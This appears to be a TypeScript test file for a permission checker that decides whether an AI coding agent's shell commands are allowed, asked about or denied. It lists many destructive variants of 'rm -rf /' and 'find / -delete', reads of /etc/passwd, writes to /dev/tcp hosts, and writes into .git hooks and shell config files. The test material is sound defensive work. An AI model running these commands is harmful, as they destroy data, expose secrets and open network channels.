// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are bash's.
import { lines } from "../lines.ts";
import type { Group } from "./ground.ts";

const critical = [
  ...lines`
    rm -rf / ¦ rm -rf // ¦ rm -rf /. ¦ rm -rf /./ ¦ rm -rf /.. ¦ rm -rf /usr/.. ¦ rm -rf /* ¦ rm -rf /etc
    rm -rf /etc/ ¦ rm -rf /usr/../etc ¦ rm -r /home ¦ rm -rf /etc/* ¦ rm -rf /tmp/* ¦ rm -rf ~ ¦ rm -rf ~/
    rm -rf ~/* ¦ rm -rf ~/. ¦ rm -rf @home ¦ rm -rf @home/ ¦ rm -rf @home/* ¦ rm -rf @home/ref/.. ¦ rm -rf $HOME
    rm -rf "$HOME" ¦ rm -rf \${HOME} ¦ rm -rf $HOME/ ¦ rm -rf $HOME/* ¦ rm -rf "\${HOME}"/* ¦ rm -rf . ¦ rm -rf ./
    rm -rf ./. ¦ rm -rf ./* ¦ rm -rf * ¦ rm -rf .. ¦ rm -rf ../ ¦ rm -rf ../.. ¦ rm -rf ../* ¦ rm -rf src/..
    rm -rf src/../.. ¦ rm -rf @ws ¦ rm -rf @ws/ ¦ rm -rf @ws/* ¦ rm -rf @root ¦ rm -rf @root/* ¦ rm -rf "$X"/*
    rm -rf $X/* ¦ rm -rf $X/ ¦ rm -rf "$X/" ¦ rm -rf \${X}/ ¦ rm -rf \${X}/* ¦ rm -rf "\${X}/"* ¦ rm -rf -- /
    rm / -rf ¦ rm -r -f / ¦ rm --recursive --force / ¦ rm -rf --no-preserve-root / ¦ rm -rf src / ¦ rm -rf a b ~
    rm /etc ¦ rmdir / ¦ rmdir ~ ¦ rmdir . ¦ rmdir .. ¦ rmdir -p @ws ¦ rm -rf '/' ¦ rm -rf "/" ¦ rm -rf \/
    rm -rf $'/' ¦ rm -rf $'\x2f' ¦ rm -rf ''/ ¦ rm -rf /'etc' ¦ rm -rf /e\tc ¦ rm -rf {/,src} ¦ rm -rf /{etc,usr}
    rm -rf /??? ¦ rm -rf /[e]tc ¦ 'rm' -rf / ¦ \rm -rf / ¦ /bin/rm -rf / ¦ ./rm -rf / ¦ sudo rm -rf /
    sudo -u root rm -rf / ¦ doas rm -rf / ¦ env rm -rf / ¦ env A=1 rm -rf / ¦ A=1 rm -rf / ¦ timeout 5 rm -rf /
    nice rm -rf / ¦ nohup rm -rf / & ¦ time rm -rf / ¦ stdbuf -oL rm -rf / ¦ command rm -rf / ¦ command -p rm -rf /
    builtin rm -rf / ¦ watch rm -rf / ¦ ionice -c3 rm -rf / ¦ setsid rm -rf / ¦ flock x rm -rf /
    flock x -c 'rm -rf /' ¦ xargs rm -rf / ¦ echo x | xargs -0 rm -rf / ¦ sh -c 'rm -rf /' ¦ bash -c "rm -rf ~"
    bash -lc 'cd src; rm -rf *' ¦ zsh -c 'rm -rf /' ¦ eval 'rm -rf /' ¦ eval rm -rf / ¦ find . -exec rm -rf / \;
    find x -exec rm -rf / + ¦ echo $(rm -rf /) ¦ echo \`rm -rf /\` ¦ echo "$(rm -rf ~)" ¦ cat <(rm -rf /)
    X=$(rm -rf /)
  `,
  "cat <<E\n$(rm -rf /)\nE",
  ...lines`
    ls && rm -rf / ¦ ls; rm -rf / ¦ ls | rm -rf / ¦ (rm -rf /) ¦ { rm -rf /; } ¦ if true; then rm -rf /; fi
    for i in 1; do rm -rf /; done ¦ f() { rm -rf /; }; f ¦ rm -rf / > /dev/null 2>&1 ¦ >x rm -rf / ¦ find / -delete
    find /etc -delete ¦ find . -delete ¦ find ./ -delete ¦ find -delete ¦ find ~ -delete ¦ find .. -delete
    find @ws -delete ¦ find @home -type f -delete ¦ find . -type f -delete ¦ find * -delete ¦ find src / -delete
    find / -\delete ¦ find / '-delete' ¦ sudo find / -delete ¦ cd / && rm -rf * ¦ cd / && rm -rf etc
    cd /etc && rm -rf . ¦ cd .. && rm -rf * ¦ cd .. && rm -rf ws ¦ cd src && rm -rf .. ¦ cd ~ && rm -rf .
    cd / && find . -delete ¦ rm -rf link-root/ ¦ rm -rf \${X:-/} ¦ rm -rf "\${X:-~}"/ ¦ rm -rf $(pwd)
    rm -rf \`pwd\` ¦ rm -rf "$(pwd)"/* ¦ rm -rf $PWD ¦ for d in / src; do rm -rf $d; done
    for d in src ~; do rm -rf "$d"; done ¦ for d in etc usr; do rm -rf /$d; done ¦ echo / | xargs rm -rf
    rm -rf link-root/etc ¦ rm -rf link-in/../../ws
  `,
];

export const commandWrites: readonly Group[] = [
  { about: "§6 critical removals in bypass", mode: "bypass", ask: critical },
  {
    about: "§6 critical removals under every rule",
    rules: { allow: ["Bash", "Bash(rm:*)", "Bash(rm -rf /)", "Bash(find:*)", "Edit", "Edit(//**)"] },
    ask: critical,
  },
  { about: "§6 critical removals where a confinement works", ctx: { enforced: true }, ask: critical },
  { about: "§6 critical removals in acceptEdits", mode: "acceptEdits", ask: critical },
  {
    about: "§6 a deny rule beats the floor",
    mode: "bypass",
    rules: { deny: ["Bash(rm:*)", "Bash(rmdir:*)", "Bash(find:*)"] },
    deny: critical,
  },
  {
    about: "§6 what is no critical removal",
    mode: "bypass",
    allow: [
      ...lines`
        rm -rf node_modules ¦ rm -rf ./build ¦ rm -rf build/* ¦ rm -rf src/deep ¦ rm a ¦ rm -rf /tmp/one/two
        rm -rf ~/projects/x ¦ rm -rf @ws/src ¦ rm -rf @out/dir ¦ rm --help ¦ rm -rf .git ¦ find src -delete
        find src -name '*.o' -delete ¦ find . -name x ¦ echo rm -rf / ¦ echo 'rm -rf /' ¦ grep 'rm -rf /' a
        git rm -r x
      `,
      "cat <<'E'\nrm -rf /\nE",
      ...lines`
        ls # rm -rf / ¦ rmdir build/empty ¦ npm rm / ¦ rm -rf ../out/dir ¦ cd src && rm -rf deep
        for d in build dist; do rm -rf $d; done ¦ for d in build dist; do rm -rf "./$d"; done ¦ rm -rf \${X:-build}
        rm -rf $(pwd)/build
      `,
    ],
  },
  {
    about: "§5.8 workspace file commands",
    mode: "acceptEdits",
    allow: lines`
      mkdir x ¦ mkdir -p x/y/z ¦ touch x ¦ touch "x y" ¦ rm src/a.ts ¦ rm -rf build ¦ rm -f a b ¦ rmdir build
      mv a b ¦ mv -f src/a.ts src/z.ts ¦ cp a b ¦ cp -r src lib2 ¦ cp -a src @ws/lib2 ¦ sed -i s/a/b/ src/a.ts
      sed -i 's/a/b/g' src/a.ts src/b.ts ¦ sed -i -e 's/a/b/' a ¦ sed -i '/x/d' a ¦ sed -i -E 's/(a)/b/' a
      mkdir -p x && touch x/y ¦ mkdir x; ls x ¦ rm link-in/a.ts ¦ touch -- x ¦ timeout 5 rm a
    `,
    ask: lines`
      mkdir ../x ¦ mkdir /etc/x ¦ touch ~/x ¦ touch @out/x ¦ touch dangling-out ¦ touch link-out/x ¦ rm ../README.md
      rm @out/secret.txt ¦ rm link-out/secret.txt ¦ rm -rf @ws-other ¦ mv a ../x ¦ mv @out/secret.txt a ¦ cp a @out
      cp a link-out ¦ cp @out/secret.txt x ¦ cp ../out/secret.txt x ¦ cp link-secret x ¦ cp -t @out a
      cp -t../out a ¦ cp -rt @out a ¦ cp --target-directory=@out a ¦ cp --target-directory @out a
      cp --target=@out a ¦ mv --target-d=@out a ¦ mv -t ~ a ¦ touch .git/x ¦ rm .git/config ¦ rm -rf .git
      mkdir .husky/x ¦ mv a .bashrc ¦ cp a .npmrc ¦ mv .husky x ¦ cp a .git/hooks/pre-commit ¦ cp a src/../.git/x
      touch link-husky/x ¦ sed -i s/a/b/ .git/config ¦ sed -i s/a/b/ ../README.md ¦ sed -i 's/a/b/w x' a
      sed -i 's/a/b/e' a ¦ sed -i '1w x' a ¦ sed -i '1W x' a ¦ sed -i '1e ls' a ¦ sed -i '1r /etc/passwd' a
      sed -i -f script a ¦ sed -i --file=script a ¦ sed s/a/b/ a -i.bak -e '1w x' ¦ rm *.log ¦ rm $X ¦ touch $(ls)
      touch {x,y} ¦ rm -rf src/* ¦ cp $X b ¦ sed -i s/a/b/ *.ts ¦ sed -i $X a ¦ chmod +x a ¦ chown x a
      ln -s /etc/passwd x ¦ ln a b ¦ truncate -s 0 a ¦ dd of=a ¦ tee a ¦ install a b ¦ rsync a b ¦ unlink a
      FOO=1 rm a ¦ sudo rm a ¦ /bin/rm a ¦ xargs rm ¦ touch a; npm test ¦ touch -r @out/secret.txt a
      sed -i.bak/../../x s/a/b/ a ¦ sed -i.bak 's/a/b/' a ¦ cp -b a b ¦ cp --backup a b ¦ cp -S rc a b
      cp -b -S rc README.md .npm ¦ cp --suffix=rc a b ¦ mv -b a b ¦ mv -S .o a b ¦ cp -L src x ¦ cp -rL src x
      cp -H link-in x ¦ cp -rH link-in x ¦ sed -irc s/zzz/z/ .env ¦ sed -i --in-place=.o s/a/b/ a
    `,
  },
  {
    about: "§5.8 not against a deny rule",
    mode: "acceptEdits",
    rules: { deny: ["Read(.env)", "Edit(docs/**)"] },
    not: lines`
      rm .env ¦ cp .env x ¦ mv .env x ¦ cp a .env ¦ touch .env ¦ rm docs/x.md ¦ mv a docs/x.md ¦ cp a docs/new
      sed -i s/a/b/ docs/x.md ¦ mkdir docs/new ¦ touch link-env
    `,
    allow: ["rm a", "touch docsx"],
  },
  {
    about: "§5.10 redirects with no rules",
    allow: [
      ...lines`
        ls > /dev/null ¦ ls >/dev/null 2>&1 ¦ ls 2>/dev/null ¦ ls 2>&1 ¦ ls &>/dev/null ¦ ls 2>&1 | head ¦ ls >&2
        ls 1>&2 2>/dev/null ¦ cat < src/a.ts
      `,
      "cat <<E\nx\nE",
      ...lines`
        cat <<< x ¦ wc -l <src/a.ts ¦ { ls; } 2>/dev/null ¦ for f in a b; do echo $f; done > /dev/null
        while true; do ls; done < src/a.ts
      `,
    ],
    ask: lines`
      ls > x ¦ ls >x ¦ ls >> x ¦ ls >| x ¦ ls &> x ¦ ls &>> x ¦ ls >& x ¦ ls <> x ¦ ls 3> x ¦ ls 2> x ¦ ls 2>>x
      > x ¦ { ls; } > x ¦ (ls) > x ¦ if true; then ls; fi > x ¦ for f in a; do echo $f; done > x
      while true; do ls; done >> x ¦ echo x > /dev/tcp/1.2.3.4/80 ¦ cat < /dev/tcp/1.2.3.4/80
      cat < /dev/udp/1.2.3.4/80 ¦ exec 3<>/dev/tcp/1.2.3.4/80 ¦ ls > /dev/nullx ¦ ls > /dev/null/../../etc/x
      ls > /etc/x ¦ cat < /etc/passwd ¦ cat < $X ¦ cat < * ¦ ls {fd}> x
    `,
  },
  {
    about: "§5.10 redirects in acceptEdits",
    mode: "acceptEdits",
    allow: [
      ...lines`
        ls > x ¦ ls >> x ¦ ls >| x ¦ ls &> x ¦ ls 2> err.txt ¦ echo x > docs/new.md ¦ echo x > "docs/new.md"
      `,
      "cat <<E > docs/n.md\nx\nE",
      ...lines`
        { ls; } > x ¦ ls > @ws/x ¦ ls > dangling-in
      `,
    ],
    ask: lines`
      ls > ../x ¦ ls > @out/x ¦ ls > ~/x ¦ ls > ~ ¦ ls > .git/config ¦ ls > .bashrc ¦ ls > link-out/x
      ls > link-secret ¦ ls > dangling-out ¦ ls > link-husky/x ¦ ls > $X ¦ ls > "$X" ¦ ls > $(echo x)
      ls > x$(echo y) ¦ ls > *.txt ¦ ls > x? ¦ ls > x{a,b} ¦ ls > [x] ¦ cd src && ls > x ¦ cd src; echo x > y
      cd src && (ls > x) ¦ (cd src && ls > x) ¦ cd . && ls > .git/x ¦ ls > /dev/tcp/1.2.3.4/80
      ls > /dev/udp/1.2.3.4/80 ¦ ls > ok.txt > .git/config ¦ npm test > x ¦ ls > src/../.git/config ¦ ls 2> .npmrc
      { ls; } > .git/x ¦ for f in a; do echo $f; done > .git/x
    `,
  },
  {
    about: "§5.10 redirects with Edit rules",
    rules: { allow: ["Edit(docs/**)", "Bash(npm run:*)", "Read(/@out/**)"] },
    allow: lines`
      ls > docs/n ¦ npm run x > docs/log ¦ npm run x >> docs/log 2>&1 ¦ npm run x &> docs/log
      cat < @out/secret.txt ¦ npm run x < src/a.ts
    `,
    ask: lines`
      ls > a ¦ npm run x > a ¦ ls > docs/../a ¦ ls > docs/* ¦ cd docs && ls > docs/n ¦ ls > docs/.git/x
      npm run x > $X ¦ npm run x < /etc/passwd ¦ npm run x < ~/.bashrc
    `,
  },
  {
    about: "§5.10 denied targets",
    mode: "bypass",
    rules: { deny: ["Edit(docs/**)", "Read(private/**)", "Write(/etc/**)"] },
    deny: lines`
      ls > docs/x ¦ ls >> docs/x ¦ ls 2>docs/x ¦ ls &> docs/x ¦ ls >| docs/x ¦ { ls; } > docs/x ¦ cat < private/k
      ls > private/k ¦ echo x > /etc/hosts ¦ ls > ./docs/x ¦ bash -c 'ls > docs/x' ¦ ls && echo $(ls > docs/x)
    `,
    allow: ["ls > x", "ls > /dev/null", "cat < a"],
  },
  {
    about: "§5.10 an allow rule for the command says nothing of the target",
    rules: { allow: ["Bash(echo:*)", "Bash(npm test)"] },
    ask: ["echo x > a", "echo x >> .bashrc", "npm test > x", "echo x | tee a"],
    allow: ["npm test > /dev/null 2>&1", "npm test 2>&1"],
  },
];
